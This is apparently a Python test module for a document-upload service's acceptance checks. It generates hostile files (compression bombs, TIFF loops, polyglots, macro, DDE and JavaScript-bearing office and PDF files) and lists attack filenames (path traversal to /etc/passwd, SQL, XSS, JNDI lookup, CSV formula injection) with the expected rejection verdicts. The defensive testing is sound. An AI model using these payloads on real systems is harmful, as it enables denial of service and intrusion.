"""The hostile set of the acceptance: each file with its verdict, each name with its own, at every door.

Most files are made by `hostile.py`, whose author had never seen the code; what is missing there is made here. A verdict
is `TAKEN`, or the code of a reason (docs/errors.md).
"""

import io
import shutil
import struct
import zlib
from collections.abc import Callable, Iterator
from typing import Final, NamedTuple

from PIL import Image, ImageCms, ImageDraw

from tests.support import hostile, office_files, signed

TAKEN: Final = "taken"
PRINTED: Final = TAKEN if shutil.which("soffice") else "no_converter"
"""The verdict on an office file: where LibreOffice stands it is printed."""
DOORS: Final = ("cli", "upload", "drop")


class File(NamedTuple):
    """One file of the set; `otherwise` are the doors with another verdict, and why."""

    name: str
    kind: str
    verdict: str
    otherwise: dict[str, str]
    why: str

    @property
    def data(self) -> bytes:
        return MAKERS[self.name]()

    def at(self, door: str) -> str:
        return self.otherwise.get(door, self.verdict)


# --- files that are made here ----------------------------------------------------------------------------------------


def picture(kind: str, mode: str = "RGB", size: tuple[int, int] = (600, 800), **options: object) -> bytes:
    """A page with a line of print."""
    page = Image.new(mode, size, "white" if mode != "CMYK" else 0)
    ImageDraw.Draw(page).text((60, 200), "HO VA TEN: LE VAN A", fill=0 if mode in "L1" else "black", font_size=32)
    out = io.BytesIO()
    page.save(out, kind, **{"dpi": (200, 200), **options})
    return out.getvalue()


def good(number: int) -> bytes:
    """A page that passes every door; no two are the same bytes."""
    page = Image.new("RGB", (600, 800), "white")
    ImageDraw.Draw(page).text((60, 200), f"GIAY SO {number}", fill="black", font_size=40)
    out = io.BytesIO()
    page.save(out, "JPEG", dpi=(200, 200))
    return out.getvalue()


def profile(*, device: bytes = b"mntr", space: bytes = b"RGB ", major: int = 2) -> bytes:
    """A colour profile that opens, whatever its header says of device, colours and version."""
    made = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())
    made[8], made[12:16], made[16:20] = major, device, space
    return bytes(made)


def tiff_of(pages: int, *, loop: bool = False) -> bytes:
    """A TIFF of so many directories of one black pixel; in a loop the last names the first."""
    out = bytearray(b"II*\0\x08\0\0\0")
    for number in range(pages):
        entries = [(256, 4, 1, 1), (257, 4, 1, 1), (258, 3, 1, 8), (262, 3, 1, 1), (273, 4, 1, 8), (279, 4, 1, 1)]
        after = 8 if loop and number == pages - 1 else len(out) + 6 + 12 * len(entries)
        if not loop and number == pages - 1:
            after = 0
        out += struct.pack("<H", len(entries))
        out += b"".join(struct.pack("<HHII", *entry) for entry in entries) + struct.pack("<I", after)
    return bytes(out)


def tiff_bomb(side: int = 60_000) -> bytes:
    """A TIFF of a few kilobytes that says it is 3.6 gigapixels, packed."""
    strip = zlib.compress(bytes(1 << 20))
    entries = [
        (256, 4, 1, side), (257, 4, 1, side), (258, 3, 1, 8), (259, 3, 1, 8), (262, 3, 1, 1),
        (273, 4, 1, 8), (278, 4, 1, side), (279, 4, 1, len(strip)),
    ]  # fmt: skip
    directory = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *e) for e in entries) + bytes(4)
    return b"II*\0" + struct.pack("<I", 8 + len(strip)) + strip + directory


def packed_900() -> bytes:
    """Nested layers of Flate that are gigabytes: a whole PDF of less than a kilobyte."""
    return hostile.write_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            4: hostile.stm(hostile.bomb(4 << 30, 3), filt=b"[%s]" % b" ".join([hostile.FL] * 3)),
        }
    )


def tiff_pages(*modes: str, **options: object) -> bytes:
    """A TIFF of several pages, packed as it is said."""
    first, *rest = (Image.open(io.BytesIO(picture("TIFF", mode))) for mode in modes)
    out = io.BytesIO()
    first.save(out, "TIFF", save_all=True, append_images=rest, **{"dpi": (200, 200), **options})
    return out.getvalue()


def sixteen_bits() -> bytes:
    """A TIFF of one page in 65,536 greys."""
    made, out = Image.new("I;16", (600, 800), 60_000), io.BytesIO()
    ImageDraw.Draw(made).text((60, 200), "GIAY SO 16", fill=0, font_size=40)
    made.save(out, "TIFF", dpi=(200, 200), compression="tiff_lzw")
    return out.getvalue()


def heic(brand: bytes) -> bytes:
    """The first box of a photo of a telephone."""
    return struct.pack(">I", 24) + b"ftyp" + brand + bytes(4) + b"mif1" + b"heic" + bytes(3000)


def docx_bomb() -> bytes:
    """A docx of some 200 kilobytes that is 200 megabytes."""
    return office_files.docx(**{"word/a.xml": bytes(200 << 20)})


HERE: Final[dict[str, Callable[[], bytes]]] = {
    "good.jpg": lambda: good(0),
    "good.png": lambda: picture("PNG"),
    "flate-900-bytes-to-gigabytes.pdf": packed_900,
    "tiff-plain.jpg": lambda: picture("TIFF"),
    "tiff-10000-directories.tif": lambda: tiff_of(10_000),
    "tiff-directory-loop.tif": lambda: tiff_of(3, loop=True),
    "tiff-bomb-3600mp.tif": tiff_bomb,
    "tiff-cut.tif": lambda: picture("TIFF")[:1000],
    "tiff-called-pdf.pdf": lambda: picture("TIFF"),
    "jpeg-called-pdf.pdf": lambda: picture("JPEG"),
    "tiff-three-pages-g4.tif": lambda: tiff_pages("1", "1", "1", compression="group4"),
    "tiff-lzw-mixed.tif": lambda: tiff_pages("RGB", "L", "1", compression="tiff_lzw"),
    "tiff-inks.tif": lambda: tiff_pages("CMYK", compression="tiff_lzw"),
    "tiff-16-bits.tif": sixteen_bits,
    "tiff-101-pages.tif": lambda: tiff_of(101),
    "tiff-then-zip.tif": lambda: picture("TIFF") + office_files.packed({"a.exe": b"MZ"}),
    "tiff-many-values.tif": lambda: b"II*\0\x08\0\0\0" + struct.pack("<HHHII", 1, 273, 4, 1 << 30, 8) + bytes(4),
    "heic-photo.heic": lambda: heic(b"heic"),
    "heif-called-jpg.jpg": lambda: heic(b"mif1"),
    "docx-plain.docx": office_files.docx,
    "xlsx-plain.xlsx": office_files.xlsx,
    "odt-plain.odt": office_files.odt,
    "docx-macros.docx": lambda: office_files.docx(**{"word/vbaProject.bin": b"x"}),
    "xlsx-macro-sheet.xlsx": lambda: office_files.xlsx(**{"xl/macrosheets/sheet1.xml": "<x/>"}),
    "odt-basic.odt": lambda: office_files.odt(**{"Basic/Standard/Module1.xml": "<x/>"}),
    "docx-object.docx": lambda: office_files.docx(**{"word/embeddings/oleObject1.bin": b"x"}),
    "docx-template-elsewhere.docx": lambda: office_files.docx(
        **{office_files.RELS: office_files.LINK.format("attachedTemplate")}
    ),
    "docx-dde.docx": lambda: office_files.docx(**{"word/a.xml": "<w:instrText>DDEAUTO c:\\\\cmd</w:instrText>"}),
    "docx-entities.docx": lambda: office_files.docx(**{"word/a.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x/>'}),
    "xlsx-other-book.xlsx": lambda: office_files.xlsx(**{"xl/externalLinks/externalLink1.xml": "<x/>"}),
    "docx-bomb.docx": docx_bomb,
    "docx-way-out.docx": lambda: office_files.docx(**{"../../a": "a"}),
    "docx-cut.docx": lambda: office_files.docx()[:200],
    "odt-locked.odt": lambda: office_files.odt(**{"META-INF/manifest.xml": "<manifest:encryption-data/>"}),
    "docx-locked.docx": lambda: office_files.COMPOUND + bytes(600) + "EncryptedPackage".encode("utf-16-le"),
    "word-1997.doc": lambda: office_files.COMPOUND + bytes(600),
    "epub-called-odt.odt": lambda: office_files.odt(mimetype="application/epub+zip"),
    "signed.pdf": lambda: signed.signed(signed.printed()),
    "signed-twice.pdf": lambda: signed.signed(signed.signed(signed.printed()), "Someone else", "Signature2"),
    "signed-then-changed.pdf": lambda: signed.changed(signed.signed(signed.printed())),
    "signed-then-added-to.pdf": lambda: signed.added_to(signed.signed(signed.printed())),
    "signed-blank.pdf": signed.signed,
    "jpeg-grey-with-profile-of-rgb.jpg": lambda: picture("JPEG", "L", icc_profile=profile()),
    "jpeg-rgb-with-profile-of-grey.jpg": lambda: picture("JPEG", icc_profile=profile(space=b"GRAY")),
    "jpeg-profile-of-a-link.jpg": lambda: picture("JPEG", icc_profile=profile(device=b"link")),
    "jpeg-profile-of-version-5.jpg": lambda: picture("JPEG", icc_profile=profile(major=5)),
    "png-grey-with-profile-of-rgb.png": lambda: picture("PNG", "L", icc_profile=profile()),
    "png-profile-of-a-name.png": lambda: picture("PNG", icc_profile=profile(device=b"nmcl")),
}
MAKERS: Final[dict[str, Callable[[], bytes]]] = {name: make for name, _, make in hostile._CASES} | HERE

NEVER_COPIED: Final = "what a citizen uploads is exempt from digitisation: no copy is ever bound of it"

SIGNED_ALREADY: Final = "what is signed is a data message already: the command line, which copies paper, refuses it"
NOT_JUDGED: Final = "a citizen's file is taken with a warning"
ELSEWHERE: Final[dict[str, tuple[dict[str, str], str]]] = {
    "not_archivable": ({"upload": TAKEN}, NEVER_COPIED),
    "thumbnail": ({"upload": TAKEN}, NEVER_COPIED),
    "signed_electronically": ({"upload": TAKEN, "drop": TAKEN}, SIGNED_ALREADY),
    "signature_broken": ({"upload": TAKEN}, NOT_JUDGED),
}
"""Verdicts that hold at some doors only."""

VERDICTS: Final[dict[str, dict[str, str]]] = {
    "what is good": {
        "good.jpg": TAKEN,
        "good.png": TAKEN,
        "take-progressive.jpg": TAKEN,
        "take-16bit-grey.png": TAKEN,
        "take-palette.png": TAKEN,
        "take-interlaced.png": TAKEN,
        "take-ccitt-g4.pdf": TAKEN,
        "take-jpx-scan.pdf": TAKEN,
        "take-lzw-content.pdf": TAKEN,
        "take-runlength-image.pdf": TAKEN,
        "ok-name-lies-png-bytes.jpg": TAKEN,
    },
    "layers of packing": {
        "flate-900-bytes-to-gigabytes.pdf": "too_heavy",
        "bomb-content-flate1-300mb.pdf": "too_heavy",
        "bomb-content-flate4-20tb.pdf": "too_heavy",
        "bomb-content-ascii85-flate2.pdf": "too_heavy",
        "bomb-content-lzw-1gb.pdf": "too_heavy",
        "bomb-content-runlength-180mb.pdf": "too_heavy",
        "bomb-content-flate2-runlength-250gb.pdf": "too_heavy",
        "bomb-filter-chain-20000-names.pdf": "too_heavy",
        "bomb-objstm-4gb.pdf": "truncated",
        "bomb-xref-stream-4gb.pdf": "truncated",
        "bomb-metadata-xmp-4gb.pdf": "too_heavy",
    },
    "forms and patterns within each other": {
        "form-fanout-10-deep-12.pdf": "too_heavy",
        "form-self-reference.pdf": "too_heavy",
        "form-mutual-recursion.pdf": "too_heavy",
        "form-chain-1000-deep.pdf": "too_heavy",
        "pattern-self-reference.pdf": "file_kills_reader",
        "type3-recursion.pdf": TAKEN,
        "softmask-self-recursion.pdf": TAKEN,
    },
    "drawing without end": {
        "q-nesting-1-billion.pdf": "too_heavy",
        "path-dash-1e-6-over-1e7.pdf": TAKEN,
        "pattern-step-1e-6.pdf": "file_kills_reader",
        "shading-sampled-function-1e10.pdf": "too_heavy",
        "nested-arrays-100k-in-content.pdf": TAKEN,
    },
    "sides and pages": {
        "page-200-inch.pdf": "too_many_pixels",
        "page-1e6-pt.pdf": "wrong_type",
        "pages-100-blank-2700pt.pdf": "too_many_pixels",
        "page-userunit-1000.pdf": "wrong_type",
        "page-userunit-negative.pdf": "wrong_type",
        "page-mediabox-negative-size-huge.pdf": "wrong_type",
        "page-mediabox-swapped.pdf": TAKEN,
        "page-mediabox-nan.pdf": TAKEN,
        "page-mediabox-huge-cropbox-a4.pdf": "wrong_type",
        "page-strip-3x14400pt.pdf": "wrong_type",
        "page-zero-size.pdf": "wrong_type",
        "page-rotate-45.pdf": TAKEN,
        "pages-101.pdf": "page_count",
        "pages-none.pdf": "page_count",
        "page-tree-loop.pdf": "truncated",
        "page-tree-5000-deep.pdf": "truncated",
        "page-tree-exponential-10e10.pdf": "truncated",
        "pages-count-2e31.pdf": TAKEN,
    },
    "pictures inside of a PDF": {
        "bomb-dct-177mp-declared-1654.pdf": "too_many_pixels",
        "bomb-image-smask-30000.pdf": "too_many_pixels",
        "bomb-image-dims-2e9.pdf": "too_many_pixels",
        "image-dims-negative.pdf": TAKEN,
        "dct-in-dct.pdf": "too_heavy",
        "image-bpc-200.pdf": TAKEN,
        "jbig2-garbage.pdf": TAKEN,
        "jbig2-page-4e9.pdf": TAKEN,
        "jpx-garbage.pdf": "truncated",
        "jpx-16384-components.pdf": "truncated",
        "jpx-177mp-declared-1654.pdf": "too_many_pixels",
        "ccitt-columns-rows-2e31.pdf": TAKEN,
        "ccitt-60000x60000.pdf": "too_many_pixels",
    },
    "PNG": {
        "bomb-png-valid-30000x30000-1bit.png": "too_many_pixels",
        "bomb-png-header-4e9.png": "too_many_pixels",
        "bomb-png-16bit-rgba-61mp.png": "too_many_pixels",
        "bomb-png-iccp-1gb.png": "truncated",
        "bomb-png-ztxt-1gb.png": "truncated",
        "png-chunk-length-ffffffff.png": "truncated",
        "png-apng-3-frames.png": "wrong_type",
        "png-palette-missing.png": "truncated",
        "png-palette-index-beyond.png": "thumbnail",
        "png-two-ihdr.png": "truncated",
        "png-wrong-crc-ihdr.png": "truncated",
        "png-bad-zlib-in-idat.png": "truncated",
        "png-1x1000000.png": "wrong_type",
        "png-zero-width.png": "truncated",
        "png-truncated-50.png": "truncated",
    },
    "JPEG": {
        "bomb-jpeg-valid-177mp.jpg": "too_many_pixels",
        "bomb-jpeg-65500x65500-header.jpg": "too_many_pixels",
        "bomb-jpeg-12000-scans-4mp.jpg": "wrong_type",
        "jpeg-cmyk.jpg": TAKEN,
        "jpeg-12bit-sof1.jpg": "truncated",
        "jpeg-arithmetic-sof9.jpg": TAKEN,
        "jpeg-zero-width.jpg": "truncated",
        "jpeg-segment-length-0.jpg": "truncated",
        "jpeg-exif-ifd-loop.jpg": TAKEN,
        "jpeg-exif-count-4e9.jpg": TAKEN,
        "jpeg-icc-garbage.jpg": "truncated",
        "jpeg-motion-photo.jpg": "wrong_type",
        "jpeg-garbage-after-eoi-1k.jpg": "wrong_type",
        "jpeg-truncated-50.jpg": "truncated",
        "jpeg-no-eoi.jpg": "truncated",
    },
    "colour profiles": {
        "jpeg-grey-with-profile-of-rgb.jpg": TAKEN,
        "jpeg-rgb-with-profile-of-grey.jpg": "not_archivable",
        "jpeg-profile-of-a-link.jpg": "not_archivable",
        "jpeg-profile-of-version-5.jpg": "truncated",
        "png-grey-with-profile-of-rgb.png": "not_archivable",
        "png-profile-of-a-name.png": "not_archivable",
    },
    "TIFF": {
        "tiff-plain.jpg": TAKEN,
        "tiff-10000-directories.tif": "page_count",
        "tiff-directory-loop.tif": "truncated",
        "tiff-bomb-3600mp.tif": "too_many_pixels",
        "tiff-cut.tif": "truncated",
        "tiff-called-pdf.pdf": TAKEN,
        "tiff-three-pages-g4.tif": TAKEN,
        "tiff-lzw-mixed.tif": TAKEN,
        "tiff-inks.tif": TAKEN,
        "tiff-16-bits.tif": TAKEN,
        "tiff-101-pages.tif": "page_count",
        "tiff-then-zip.tif": "wrong_type",
        "tiff-many-values.tif": "too_heavy",
        "wrong-bigtiff-header.png": "wrong_type",
    },
    "HEIC": {
        "heic-photo.heic": "heic_not_read",
        "heif-called-jpg.jpg": "heic_not_read",
    },
    "office files": {
        "docx-plain.docx": PRINTED,
        "xlsx-plain.xlsx": PRINTED,
        "odt-plain.odt": PRINTED,
        "docx-object.docx": "active_content",
        "docx-template-elsewhere.docx": "active_content",
        "docx-dde.docx": "active_content",
        "docx-entities.docx": "active_content",
        "xlsx-other-book.xlsx": "active_content",
        "docx-bomb.docx": "too_heavy",
        "docx-way-out.docx": "wrong_type",
        "docx-cut.docx": "truncated",
        "odt-locked.odt": "encrypted",
        "docx-locked.docx": "encrypted",
        "word-1997.doc": "wrong_type",
        "epub-called-odt.odt": "wrong_type",
        "xlsx-macro-sheet.xlsx": "macros",
        "odt-basic.odt": "macros",
        "docx-macros.docx": "macros",
    },
    "signed already": {
        "signed.pdf": "signed_electronically",
        "signed-twice.pdf": "signed_electronically",
        "signed-blank.pdf": "signed_electronically",
        "signed-then-added-to.pdf": "signature_broken",
        "signed-then-changed.pdf": "signature_broken",
    },
    "structure of a PDF": {
        "truncated-10.pdf": "truncated",
        "truncated-50.pdf": "truncated",
        "truncated-in-header.pdf": "truncated",
        "no-eof.pdf": "truncated",
        "no-startxref.pdf": "truncated",
        "startxref-beyond-end.pdf": "truncated",
        "xref-count-99999999.pdf": "truncated",
        "prev-loop-two.pdf": "truncated",
        "nested-arrays-10000-in-catalog.pdf": "truncated",
        "objects-120k-tiny-in-objstms.pdf": "wrong_type",
        "length-self-reference.pdf": TAKEN,
        "objstm-located-in-itself.pdf": "truncated",
        "reference-chain-20000.pdf": TAKEN,
        "pdf-random-body.pdf": "truncated",
    },
    "locked": {
        "encrypted-user-password-rc4.pdf": "encrypted",
        "encrypted-user-password-aes256.pdf": "encrypted",
        "encrypted-owner-only-aes256.pdf": "encrypted",
        "encrypted-garbage-dict.pdf": "truncated",
    },
    "what acts or carries": {
        "active-openaction-javascript.pdf": "active_content",
        "active-names-javascript.pdf": "active_content",
        "active-javascript-in-objstm.pdf": "active_content",
        "active-openaction-launch.pdf": "active_content",
        "active-link-submitform.pdf": "active_content",
        "active-embedded-file.pdf": "active_content",
        "active-fileattachment-annot.pdf": "active_content",
        "active-xfa.pdf": "active_content",
        "active-richmedia.pdf": "active_content",
        "active-stream-external-file.pdf": "active_content",
        "eicar-attached.pdf": "malware",
    },
    "two things at once": {
        "polyglot-pdf-then-zip.pdf": "wrong_type",
        "polyglot-zip-then-pdf.pdf": "wrong_type",
        "polyglot-html-then-pdf.pdf": "wrong_type",
        "polyglot-jpeg-then-pdf.jpg": "wrong_type",
        "polyglot-jpeg-pdf-in-comment.jpg": "wrong_type",
        "polyglot-png-then-zip.png": "wrong_type",
    },
    "something else": {
        "wrong-empty.pdf": "empty",
        "wrong-empty.jpg": "empty",
        "wrong-one-byte.pdf": "wrong_type",
        "wrong-zeros-100k.jpg": "wrong_type",
        "wrong-gif.jpg": "wrong_type",
        "wrong-heic.jpg": "heic_not_read",
        "wrong-svg.png": "wrong_type",
        "wrong-exe.pdf": "wrong_type",
        "wrong-docx.pdf": "wrong_type",
        "wrong-zip-bomb.pdf": "wrong_type",
        "wrong-eicar.pdf": "malware",
        "jpeg-called-pdf.pdf": TAKEN,
    },
}


def files() -> Iterator[File]:
    """The whole set, in the order of its kinds."""
    for kind, found in VERDICTS.items():
        for name, verdict in found.items():
            otherwise, why = ELSEWHERE.get(verdict, ({}, ""))
            yield File(name, kind, verdict, otherwise, why)


# --- names -----------------------------------------------------------------------------------------------------------


class Name(NamedTuple):
    """A name of a file and of a person: what the API says of each, `TAKEN` or the rule that it breaks."""

    text: str
    of_file: str
    of_person: str


NAMES: Final = (
    Name("../../../../etc/passwd", TAKEN, "name_letters"),
    Name("..\\..\\windows\\win.ini", TAKEN, "name_letters"),
    Name("/etc/shadow", TAKEN, "name_letters"),
    Name("a\x00b.jpg", TAKEN, "name_letters"),
    Name("x" * 200, TAKEN, "maxLength"),
    Name("a" * 300, "string_too_long", "maxLength"),
    Name("\u202egpj.exe", TAKEN, "name_letters"),
    Name("\u2066Nguyễn\u2069 An", TAKEN, "name_letters"),
    Name("🍼🏥.jpg", TAKEN, "letters_unprintable"),
    Name("👨\u200d👩\u200d👧.pdf", TAKEN, "letters_unprintable"),
    Name("CON", TAKEN, ""),
    Name("NUL.pdf", TAKEN, ""),
    Name("COM1", TAKEN, "name_letters"),
    Name("scan\n0001.jpg", TAKEN, "name_letters"),
    Name("a\r\nSet-Cookie: b=c", TAKEN, "name_letters"),
    Name("Z" + "\u0338\u0337\u0336\u0335\u0334" * 8, TAKEN, "marks_stacked"),
    Name("Nguye\u0302\u0303n Va\u0306n A", TAKEN, ""),
    Name('"An".jpg', TAKEN, "name_letters"),
    Name("O'Brien; DROP TABLE--", TAKEN, "name_letters"),
    Name("%2e%2e%2f%00.jpg", TAKEN, "name_letters"),
    Name(".htaccess", TAKEN, ""),
    Name(" ", TAKEN, "blank"),
    Name("\u3000\u200b", TAKEN, "letters_unprintable"),
    Name("..", TAKEN, "name_letters"),
    Name("", "string_too_short", "blank"),
    Name("<script>alert(1)</script>.jpg", TAKEN, "name_letters"),
    Name("\ufeffscan.jpg", TAKEN, "name_letters"),
    Name("ＳＣＡＮ.jpg", TAKEN, "letters_unprintable"),
    Name("漢字.jpg", TAKEN, "letters_unprintable"),
    Name("Αλέξανδρος", TAKEN, "name_letters"),
    Name("${jndi:ldap://a.invalid}", TAKEN, "name_letters"),
    Name("=cmd|' /C calc'!A0.csv", TAKEN, "name_letters"),
    Name("a\x7f\x1b[31m.jpg", TAKEN, "name_letters"),
    Name("SCAN0001.JPG;1", TAKEN, "name_letters"),
    Name("{{7*7}} #panic() \\#{$%&_^~", TAKEN, "name_letters"),
    Name("KQ003785 \ue000.jpg", TAKEN, "letters_unprintable"),
)
